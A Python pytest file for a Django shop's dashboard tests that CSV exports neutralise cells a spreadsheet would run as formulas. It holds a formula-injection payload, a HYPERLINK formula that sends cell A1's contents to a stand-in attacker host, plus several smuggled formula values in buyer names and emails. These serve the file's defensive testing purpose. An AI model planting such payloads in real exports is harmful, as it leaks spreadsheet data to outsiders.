"""CSV exports neutralise cells a spreadsheet would run as a formula."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import translation
from oscar.core.loading import get_model

from core.csv_export import neutralise
from shop.order import services as order_services
from tests.factories import ProductFactory, UserFactory
from tests.shop.checkout.helpers import make_basket, place, vn_address

Line = get_model("order", "Line")

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+84 912", "'+84 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Sâm = tốt", "Sâm = tốt"),
        ("", ""),
        (-20000, -20000),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def rows_of(response):
    text = b"".join(response).decode("utf-8-sig") if response.streaming else None
    text = text or response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_cooperative_sales_csv_neutralises_titles(client, coop_a, countries):
    Line.objects.all().delete()
    coop_a.product.title_vi = coop_a.product.title_en = EVIL
    coop_a.product.save()
    order = place(make_basket((coop_a.product, 1)))
    order_services.mark_order_paid(order)
    client.force_login(coop_a.user)
    with translation.override("en"):
        url = reverse("dashboard:cooperative-sales")
    rows = rows_of(client.get(url, {"format": "csv"}))
    assert rows[1][2] == "'" + EVIL


@pytest.mark.django_db
def test_staff_order_csv_neutralises_buyer_text(client, countries):
    staff = UserFactory(is_staff=True, is_superuser=True)
    product = ProductFactory(stock=5)
    place(
        make_basket((product, 1)),
        email="-x@example.com",
        address=vn_address(first_name="=1+1", last_name="@cmd"),
    )
    client.force_login(staff)
    with translation.override("en"):
        url = reverse("dashboard:order-list")
    rows = rows_of(client.get(url, {"response_format": "csv"}))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'-x@example.com" in cells
    assert "'=1+1 @cmd" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.django_db
def test_oscar_report_csv_neutralises(client, countries):
    staff = UserFactory(is_staff=True, is_superuser=True)
    product = ProductFactory(stock=5)
    place(make_basket((product, 1)), email="=cmd@example.com")
    client.force_login(staff)
    with translation.override("en"):
        url = reverse("dashboard:reports-index")
    response = client.get(
        url,
        {
            "report_type": "order_report",
            "date_from": "2000-01-01",
            "date_to": "2100-01-01",
            "download": "true",
        },
    )
    cells = [cell for row in rows_of(response)[1:] for cell in row]
    assert "'=cmd@example.com" in cells
